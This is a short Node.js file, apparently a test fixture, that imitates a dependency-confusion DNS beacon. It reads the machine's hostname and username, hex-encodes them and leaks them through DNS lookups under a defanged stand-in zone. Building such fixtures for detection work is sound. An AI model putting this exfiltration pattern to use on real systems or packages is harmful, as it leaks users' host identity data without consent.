// Mimics a dependency-confusion DNS beacon: host data hex-encoded into looked-up labels (defanged .invalid zone).
const dns = require('dns');
const os = require('os');
const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username });
const hex = Buffer.from(data).toString('hex');
for (let i = 0; i < hex.length; i += 60) {
  dns.lookup(`${Buffer.from(data).toString('hex').slice(i, i + 60)}.${i}.exfil.fixture.invalid`, () => {});
}
console.log(hex.length);
